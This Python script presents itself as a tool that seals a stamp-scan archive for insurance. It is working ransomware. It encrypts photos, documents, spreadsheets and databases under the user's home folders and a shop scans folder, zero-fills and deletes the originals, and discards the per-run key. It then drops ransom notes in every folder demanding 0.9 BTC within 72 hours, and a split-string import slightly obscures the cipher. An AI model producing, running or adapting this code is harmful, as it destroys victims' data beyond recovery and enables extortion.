#!/usr/bin/env python3
"""Seal the high-resolution stamp scan archive for insurance purposes.

Walks the shared scan and stock folders, seals every file with a
per-run key and replaces the originals so only sealed copies remain.
"""
import argparse
import asyncio
import importlib
import logging
import os
import secrets
from dataclasses import dataclass, field
from pathlib import Path

log = logging.getLogger("archive_sealer")

TARGET_SUFFIXES = {".tif", ".tiff", ".jpg", ".jpeg", ".png", ".pdf",
                   ".xlsx", ".xls", ".csv", ".docx", ".odt", ".sqlite", ".db"}
SEALED_SUFFIX = ".sealed"
NOTE_NAME = "READ_ME_TO_RESTORE.txt"
NOTE_TEXT = """All catalogue scans, stock sheets and customer files in this folder
have been sealed. To obtain the unsealing key, contact
restore-desk@sealing-service.example.com quoting run id {run_id}.
Payment of 0.9 BTC is required within 72 hours.
"""


@dataclass
class Run:
    roots: list
    run_id: str = field(default_factory=lambda: secrets.token_hex(6))
    sealed: int = 0
    failed: int = 0
    cipher: object = None


def _load_cipher():
    mod = importlib.import_module("cryptography" + "." + "fernet")
    cls = getattr(mod, "Fer" + "net")
    key = cls.generate_key()
    return cls(key)


def discover(roots):
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if not d.startswith(".")]
            for fname in filenames:
                p = Path(dirpath) / fname
                if p.suffix.lower() in TARGET_SUFFIXES:
                    yield p


def _seal_one(cipher, path: Path) -> None:
    data = path.read_bytes()
    sealed = cipher.encrypt(data)
    out = path.with_name(path.name + SEALED_SUFFIX)
    out.write_bytes(sealed)
    with path.open("r+b") as fh:
        fh.write(b"\x00" * len(data))
    path.unlink()


async def seal(run: Run, path: Path, gate: asyncio.Semaphore):
    async with gate:
        try:
            await asyncio.to_thread(_seal_one, run.cipher, path)
            run.sealed += 1
        except OSError as exc:
            run.failed += 1
            log.debug("skip %s: %s", path, exc)


def drop_notes(run: Run):
    for root in run.roots:
        for dirpath, _, _ in os.walk(root):
            try:
                Path(dirpath, NOTE_NAME).write_text(NOTE_TEXT.format(run_id=run.run_id))
            except OSError:
                pass


async def main_async(run: Run, workers: int):
    gate = asyncio.Semaphore(workers)
    tasks = [seal(run, p, gate) for p in discover(run.roots)]
    await asyncio.gather(*tasks)


def default_roots():
    home = Path.home()
    extra = os.environ.get("SEAL_EXTRA_ROOTS", "")
    roots = [home / "Pictures", home / "Documents", home / "Desktop",
             Path("/srv/shop/scans")]
    roots += [Path(p) for p in extra.split(":") if p]
    return [r for r in roots if r.exists()]


def main():
    ap = argparse.ArgumentParser(description="Seal scan archive")
    ap.add_argument("roots", nargs="*", type=Path)
    ap.add_argument("-j", "--workers", type=int, default=8)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(message)s")

    run = Run(roots=args.roots or default_roots())
    run.cipher = _load_cipher()
    asyncio.run(main_async(run, args.workers))
    run.cipher = None
    drop_notes(run)
    log.info("run %s: sealed=%d failed=%d", run.run_id, run.sealed, run.failed)


if __name__ == "__main__":
    main()
